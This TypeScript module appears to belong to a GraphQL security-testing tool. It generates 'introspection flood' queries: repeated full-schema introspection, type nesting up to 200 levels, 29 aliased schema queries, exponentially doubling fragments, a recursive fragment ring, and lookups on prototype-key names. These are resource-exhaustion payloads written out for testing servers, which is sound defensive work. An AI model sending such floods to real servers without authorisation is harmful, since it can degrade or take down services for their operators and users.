/** The schema asked about itself, too often and too deep. */
import { getIntrospectionQuery } from 'graphql';
import { type Attack, type Family, graphqlPost } from '../attack.ts';
import { PROTOTYPE_KEYS, QUERY_SYNTAX } from '../odd-values.ts';

/** Questions about types of types of types. Where introspection is off they are refused, and either way they are cheap. */
export const introspectionAttacks: Family = () =>
  Object.entries(questions()).map(
    ([what, query]): Attack => ({ kind: 'introspection floods', what, shot: graphqlPost({ query }) }),
  );

function questions(): Record<string, string> {
  const deep = (part: string, levels: number) => `${`${part} { `.repeat(levels)}name${' }'.repeat(levels)}`;
  return {
    'the whole schema': getIntrospectionQuery(),
    'the whole schema, ten times': repeated(getIntrospectionQuery(), 10),
    'the types of fields of types, 2 levels':
      '{ __schema { types { fields { type { fields { type { name } } } } } } }',
    'the types of fields of types, 6 levels': `{ __schema { types { ${'fields { type { '.repeat(6)}name${' } }'.repeat(6)} } } }`,
    'fields of types under 29 names': `{ ${Array.from({ length: 29 }, (_, index) => `a${index}: __schema { types { fields { type { fields { name } } } } }`).join(' ')} }`,
    'descriptions under 29 names': `{ ${Array.from({ length: 29 }, (_, index) => `a${index}: __schema { types { description fields { description args { description type { name } } } } }`).join(' ')} }`,
    'possible types of interfaces, 8 levels': `{ __type(name: "Node") { ${'possibleTypes { interfaces { '.repeat(8)}name${' } }'.repeat(8)} } }`,
    'the inner type, 200 levels': `{ __type(name: "Query") { ${deep('ofType', 200)} } }`,
    'the inner type, 14 levels': `{ __schema { types { fields { type { ${deep('ofType', 10)} } } } } }`,
    'fields in fragments that double': `{ __schema { types { ...A } } } fragment A on __Type { fields { type { ...B ...B } } } fragment B on __Type { fields { type { ...C ...C } } } fragment C on __Type { fields { type { name } } }`,
    'fields in a fragment ring': '{ __schema { types { ...A } } } fragment A on __Type { ofType { ...A } }',
    ...Object.fromEntries(
      [...PROTOTYPE_KEYS, ...QUERY_SYNTAX, 'Query', '__Schema'].map((name) => [
        `the type ${name}`,
        `{ __type(name: ${JSON.stringify(name)}) { name kind fields { name } } }`,
      ]),
    ),
  };
}

function repeated(query: string, count: number): string {
  const [operation = '', ...fragments] = query.split(/(?=\n\s*fragment )/);
  const inner = operation.slice(operation.indexOf('{') + 1, operation.lastIndexOf('}'));
  return `{ ${Array.from({ length: count }, (_, index) => inner.replace('__schema', `a${index}: __schema`)).join(' ')} } ${fragments.join(' ')}`;
}
